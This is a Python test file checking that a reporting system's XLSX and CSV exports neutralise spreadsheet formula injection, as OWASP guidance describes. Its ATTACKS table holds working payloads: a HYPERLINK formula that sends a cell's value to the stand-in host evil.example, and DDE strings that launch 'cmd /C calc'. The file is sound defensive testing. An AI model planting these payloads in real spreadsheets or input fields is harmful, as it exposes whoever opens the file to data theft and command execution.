"""Exports cannot run code: names that look like formulas (settable through imports and API v1) are
written as text, XLSX as typed string cells and CSV quoted per OWASP's CSV-injection guidance."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from report_district import NOW, District

from reports.csvout import FORMULA_START, csv_cell
from reports.export import Format, render
from reports.periods import parse_period
from reports.results import build_results
from storage import Database, find_agency, upsert_field, upsert_officer, upsert_procedure
from survey_flows import load_schema

ATTACKS = {
    "P1": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "P2": "+cmd|' /C calc'!A0",
    "F1": "-2+3+cmd|' /C calc'!A0",
    "O1": "@SUM(1+1)*cmd|' /C calc'!A0",
    "O2": "\t=1+1\r\x01",  # a tab, a CR and a control character XML cannot hold
}


async def _poison(db: Database) -> None:
    async with db.transaction() as s:
        agency = await find_agency(s, "A1")
        field = await upsert_field(s, code="F1", name=ATTACKS["F1"])
        for code in ("P1", "P2"):
            await upsert_procedure(s, code=code, name=ATTACKS[code], field_id=field.id)
        for code in ("O1", "O2"):
            await upsert_officer(s, agency_id=agency.id, code=code, name=ATTACKS[code])


async def _render(db: Database, fmt: Format) -> bytes:
    async with db.transaction() as s:
        return render(await build_results(s, parse_period("2019-Q2"), bands=load_schema().bands, now=NOW), fmt)


async def test_xlsx_writes_every_text_as_a_string_cell(db: Database, district: District) -> None:
    await _poison(db)
    data = await _render(db, Format.XLSX)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)  # not one formula anywhere
    book = load_workbook(io.BytesIO(data))
    texts = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in texts)
    values = {c.value for c in texts}
    assert ATTACKS["P1"] in values and ATTACKS["O1"] in values
    assert any(v.startswith("\t=1+1") and "\x01" not in v for v in values)  # XML reads the CR back as LF


@pytest.mark.parametrize(("fmt", "delimiter"), [(Format.CSV, ","), (Format.CSV_VI, ";")])
async def test_csv_quotes_every_cell_that_starts_like_a_formula(db: Database, district: District, fmt: Format,
                                                                delimiter: str) -> None:
    await _poison(db)
    text = (await _render(db, fmt)).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert "'" + ATTACKS["P1"] in cells and "'" + ATTACKS["F1"] in cells and "'" + ATTACKS["O1"] in cells
    # Text is wrapped in double quotes, inner quotes doubled: a ; or , inside a name splits nothing.
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"' in text


def test_csv_cell_follows_owasp() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("Thủ tục = 1") == "Thủ tục = 1" and csv_cell(-5) == -5 and csv_cell(None) is None
